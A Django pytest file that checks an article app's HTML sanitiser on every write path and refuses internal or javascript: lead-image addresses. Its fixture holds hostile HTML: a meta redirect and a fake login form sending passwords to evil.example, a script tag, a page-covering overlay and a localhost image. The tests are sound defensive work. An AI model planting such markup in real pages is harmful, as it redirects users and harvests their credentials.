"""Whatever writes an article's HTML, the sanitiser runs (SECURITY.md, “The sanitiser”): the
admin, create, update, bulk_create and bulk_update all store what clean() would."""

import pytest
from django.urls import reverse

from articles.ingest.clean import clean
from articles.models import Article

PLANTED = (
    '<meta http-equiv="refresh" content="1;url=https://evil.example/">'
    "<p>Your session expired.</p>"
    '<form action="https://evil.example/login"><input name="user">'
    '<input type="password" name="password"><button>Log in</button></form>'
    '<p style="position:fixed;inset:0">Keep reading</p>'
    "<script>alert(1)</script>"
    '<img src="http://127.0.0.1:8000/admin/" alt="internal">'
)


def assert_clean(html: str) -> None:
    lowered = html.lower()
    for planted in ("<meta", "http-equiv", "<form", "<input", "password", "<script", "style="):
        assert planted not in lowered, planted
    assert "127.0.0.1" not in html
    assert "Your session expired." in html and "Keep reading" in html


def admin_change_data(article, **changes) -> dict:
    data = {
        "owner": article.owner_id,
        "title": article.title,
        "given_url": article.given_url,
        "url": article.url,
        "normalized_url": article.normalized_url,
        "status": article.status,
        "failure_reason": "",
        "byline": "",
        "site_name": "",
        "excerpt": "",
        "language": "",
        "lead_image_url": "",
        "reading_progress": "0",
        "content_html": article.content_html,
        "content_text": article.content_text,
    }
    return data | changes


def test_a_superuser_cannot_plant_a_redirect_or_a_login_form(admin_client, client, make_article):
    article = make_article(title="Victim")
    change = reverse("admin:articles_article_change", args=[article.pk])
    response = admin_client.post(change, admin_change_data(article, content_html=PLANTED))
    assert response.status_code == 302, response.content.decode()[:2000]
    article.refresh_from_db()
    assert_clean(article.content_html)
    assert "Your session expired." in article.content_text  # search reads the edited text
    client.force_login(article.owner)
    page = client.get(article.get_absolute_url()).content.decode()
    assert "http-equiv" not in page and "evil.example" not in page


def test_the_admin_says_the_html_is_sanitised_when_saved(admin_client, make_article):
    article = make_article()
    page = admin_client.get(reverse("admin:articles_article_change", args=[article.pk]))
    assert "Sanitised when saved" in page.content.decode()


def test_creating_an_article_sanitises_its_html(make_article):
    assert_clean(make_article(content_html=PLANTED).content_html)
    assert_clean(Article.objects.get().content_html)


def test_updating_a_queryset_sanitises_its_html(make_article):
    article = make_article()
    Article.objects.filter(pk=article.pk).update(content_html=PLANTED)
    article.refresh_from_db()
    assert_clean(article.content_html)


def test_bulk_writes_sanitise_their_html(owner, make_article):
    created = Article.objects.bulk_create(
        [Article(owner=owner, url=f"https://example.com/{n}", content_html=PLANTED) for n in (1, 2)]
    )
    for article in Article.objects.filter(pk__in=[a.pk for a in created]):
        assert_clean(article.content_html)
    article = make_article()
    article.content_html = PLANTED
    Article.objects.bulk_update([article], ["content_html"])
    article.refresh_from_db()
    assert_clean(article.content_html)


def test_stored_html_is_what_clean_makes_of_it(make_article):
    article = make_article(content_html=PLANTED)
    article.refresh_from_db()
    assert article.content_html == clean(PLANTED)
    article.save()  # a stored article saved again is unchanged (clean is idempotent)
    article.refresh_from_db()
    assert article.content_html == clean(PLANTED)


@pytest.mark.parametrize(
    "image",
    ["http://10.0.0.1/x.png", "http://localhost/x.png", "javascript:alert(1)", "http://[::1]/x"],
)
def test_a_lead_image_on_a_refused_address_is_not_stored(make_article, image):
    assert make_article(lead_image_url=image).lead_image_url == ""
    assert make_article(lead_image_url="https://cdn.example/x.png").lead_image_url
